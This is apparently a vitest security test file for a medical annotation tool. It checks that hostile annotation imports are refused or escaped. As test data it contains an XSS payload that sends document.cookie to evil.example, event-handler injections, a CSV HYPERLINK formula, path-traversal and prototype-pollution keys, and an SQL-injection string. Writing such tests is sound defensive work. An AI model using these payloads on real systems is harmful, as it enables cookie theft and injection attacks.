// Hostile annotation imports: broken or oversized files, oversized fields, path tricks, prototype
// keys, and markup in notes and tag names, which must come out escaped in the HTML report.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MedtaskCore } from '../../src/core/service';
import { EXPORT_FORMAT, MAX_IMPORT_BYTES } from '../../src/core/annotations/exchange';
import { dispatchCall } from '../../src/shared/dispatch';
import type { CallInput, CallName, CallResults } from '../../src/shared/contract';
import type { Envelope } from '../../src/shared/errors';
import { tempDir } from '../helpers';
import { PUBMEDQA_ZS, twoRuns } from '../annotations/fixtures';

let dir: string;
let core: MedtaskCore;
let runUid: string;

async function call<N extends CallName>(name: N, input: CallInput<N>) {
  return (await dispatchCall(core.handlers, name, input)) as Envelope<CallResults[N]>;
}

const record = (over: Record<string, unknown> = {}) => ({
  itemKey: 'medinst32/PubMedQA-labeled#1',
  benchmark: 'medinst32',
  task: 'PubMedQA-labeled',
  index: 1,
  fingerprint: 'ab'.repeat(16),
  run: { uid: runUid, name: 'beta run', modelLabel: 'x', createdAt: '' },
  reviewer: 'mallory',
  tags: ['hallucinated finding'],
  verdict: 'incorrect',
  severity: 'severe',
  note: 'n',
  updatedAt: '2026-01-01T00:00:00.000Z',
  ...over,
});
const fileWith = (name: string, annotations: unknown[], extra: Record<string, unknown> = {}) => {
  const f = path.join(dir, name);
  fs.writeFileSync(f, JSON.stringify({ format: EXPORT_FORMAT, version: 1, exportedAt: '', scope: 'x', tags: [], annotations, ...extra }));
  return f;
};
const annotationCount = () => core.db.prepare('SELECT COUNT(*) FROM annotations').pluck().get() as number;

beforeAll(async () => {
  dir = tempDir('medtask-sec-ann-');
  core = new MedtaskCore({ home: path.join(dir, 'home') });
  await core.importPaths([PUBMEDQA_ZS]);
  const { b } = await twoRuns(core, dir);
  runUid = core.db.prepare('SELECT uid FROM runs WHERE id = ?').pluck().get(b.id) as string;
});

afterAll(async () => {
  await core.dispose();
});

describe('hostile annotation imports', () => {
  it('bad JSON: a clear 4xx naming the file and line, nothing written', async () => {
    const f = path.join(dir, 'bad.json');
    fs.writeFileSync(f, '{\n  "format": "medtask-annotations",\n  "annotations": [ {,\n');
    const res = await call('importAnnotations', { file: f });
    expect(res.ok).toBe(false);
    if (!res.ok) {
      expect(res.error.code).toBe('invalid_input');
      expect(res.error.message).toMatch(/bad\.json, line 3: not valid JSON/);
    }
    expect(annotationCount()).toBe(0);
  });

  it('a file of another kind, or a field of the wrong shape, is refused naming the field; the valid records before it are not written', async () => {
    const other = path.join(dir, 'other.json');
    fs.writeFileSync(other, JSON.stringify({ QA: {} }));
    const r1 = await call('importAnnotations', { file: other });
    expect(!r1.ok && r1.error.message).toMatch(/not a MedTask annotations export/);
    const f = fileWith('shape.json', [record(), record({ reviewer: 'eve', verdict: 'maybe' })]);
    const r2 = await call('importAnnotations', { file: f });
    expect(!r2.ok && r2.error.message).toMatch(/annotations\[1\]\.verdict/);
    expect(!r2.ok && r2.error.details?.field).toBe('annotations[1].verdict');
    expect(annotationCount()).toBe(0);
  });

  it('huge fields and huge files are refused before anything is stored', async () => {
    const r1 = await call('importAnnotations', { file: fileWith('huge-note.json', [record({ note: 'x'.repeat(20_001) })]) });
    expect(!r1.ok && r1.error.message).toMatch(/annotations\[0\]\.note/);
    const r2 = await call('importAnnotations', { file: fileWith('many-tags.json', [record({ tags: Array.from({ length: 51 }, (_, i) => `t${i}`) })]) });
    expect(!r2.ok && r2.error.message).toMatch(/annotations\[0\]\.tags/);
    const big = path.join(dir, 'big.json');
    fs.writeFileSync(big, '');
    fs.truncateSync(big, MAX_IMPORT_BYTES + 1); // sparse: costs no disk
    const r3 = await call('importAnnotations', { file: big });
    expect(!r3.ok && r3.error.code).toBe('too_large');
    expect(annotationCount()).toBe(0);
  });

  it('path tricks: NUL bytes, folders, missing files and unknown keys such as __proto__', async () => {
    const r1 = await call('importAnnotations', { file: `${dir}/x.json\0.png` });
    expect(!r1.ok && r1.error.code).toBe('invalid_input');
    const r2 = await call('importAnnotations', { file: dir });
    expect(!r2.ok && r2.error.message).toMatch(/not a regular file/);
    const r3 = await call('importAnnotations', { file: path.join(dir, '..', path.basename(dir), 'missing.json') });
    expect(!r3.ok && r3.error.code).toBe('not_found');
    const proto = path.join(dir, 'proto.json');
    fs.writeFileSync(proto, `{"format":"${EXPORT_FORMAT}","version":1,"exportedAt":"","scope":"","tags":[],"annotations":[],"__proto__":{"polluted":true}}`);
    const r4 = await call('importAnnotations', { file: proto });
    expect(r4.ok).toBe(false);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    // An item key is an identity, never a path: a traversal-looking key is refused by its shape.
    const r5 = await call('importAnnotations', { file: fileWith('key.json', [record({ itemKey: '../../etc/passwd' })]) });
    expect(!r5.ok && r5.error.message).toMatch(/annotations\[0\]\.itemKey/);
    // The report and exports never write through a symlink.
    const link = path.join(dir, 'link.html');
    fs.symlinkSync(path.join(dir, 'target.html'), link);
    const s = await call('createAnnotationSession', { reviewer: 'x', scope: { kind: 'run', runId: 1 } });
    expect(s.ok).toBe(true);
    const r6 = await call('writeAnnotationReport', { sessionId: s.ok ? s.value.id : 0, out: link, overwrite: true });
    expect(!r6.ok && r6.error.message).toMatch(/symbolic link/);
    expect(fs.existsSync(path.join(dir, 'target.html'))).toBe(false);
  });

  it('markup in notes, tag names and reviewer names is escaped in the report; CSV cells cannot start a formula', async () => {
    const evil = '<script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>';
    const f = fileWith('evil.json', [record({ note: evil, tags: ['<b onmouseover=alert(2)>tag</b>'], reviewer: '<i>mallory</i>' })], {
      tags: [{ name: '<b onmouseover=alert(2)>tag</b>', color: '#ff0000', hotkey: null }],
    });
    const res = await call('importAnnotations', { file: f });
    expect(res.ok && res.value.added).toBe(1);
    const s = await call('createAnnotationSession', { reviewer: '<i>mallory</i>', scope: { kind: 'comparison', runIds: [1, 2] } });
    expect(s.ok).toBe(true);
    const out = path.join(dir, 'evil.html');
    const r = await call('writeAnnotationReport', { sessionId: s.ok ? s.value.id : 0, out });
    expect(r.ok).toBe(true);
    const html = fs.readFileSync(out, 'utf8');
    expect(html).toContain('&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;');
    expect(html).toContain('&lt;b onmouseover=alert(2)&gt;tag&lt;/b&gt;');
    expect(html).not.toMatch(/<script|<img|<b onmouseover|<i>mallory/i);
    // A formula in a note is neutralised in the CSV export.
    await call('importAnnotations', { file: fileWith('formula.json', [record({ reviewer: 'zed', note: '=HYPERLINK("http://evil.example","x")' })]) });
    const csv = path.join(dir, 'out.csv');
    const e = await call('exportAnnotations', { format: 'csv', out: csv });
    expect(e.ok).toBe(true);
    expect(fs.readFileSync(csv, 'utf8')).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
  });

  it('a run content uid is a 32-hex-digit hash or refused by name; one naming a local run merges as conflicts, never overwriting', async () => {
    for (const bad of ['../../etc/passwd', "x' OR 1=1 --", 'AB'.repeat(16), 'a'.repeat(33), 'a'.repeat(10_000)]) {
      const before = annotationCount();
      const res = await call('importAnnotations', {
        file: fileWith('content-uid.json', [record({ reviewer: 'nina', run: { ...record().run, contentUid: bad } })]),
      });
      expect(!res.ok && res.error.code).toBe('invalid_input');
      expect(!res.ok && res.error.details?.field).toBe('annotations[0].run.contentUid');
      expect(annotationCount()).toBe(before);
    }
    // An unknown uid whose content uid is this library's run: the record lands on that run, and a
    // differing annotation already there is listed as a conflict, not replaced.
    const first = await call('importAnnotations', { file: fileWith('nina.json', [record({ reviewer: 'nina', note: 'first' })]) });
    expect(first.ok && first.value.added).toBe(1);
    const viaContent = record({
      reviewer: 'nina',
      note: 'rewritten',
      run: { uid: 'f'.repeat(32), contentUid: runUid, name: 'x', modelLabel: 'x', createdAt: '' },
    });
    const res = await call('importAnnotations', { file: fileWith('nina2.json', [viaContent]) });
    expect(res.ok && res.value.conflicts.map((c) => c.local.note)).toEqual(['first']);
    expect(core.db.prepare("SELECT note FROM annotations WHERE reviewer = 'nina'").pluck().all()).toEqual(['first']);
  });
});
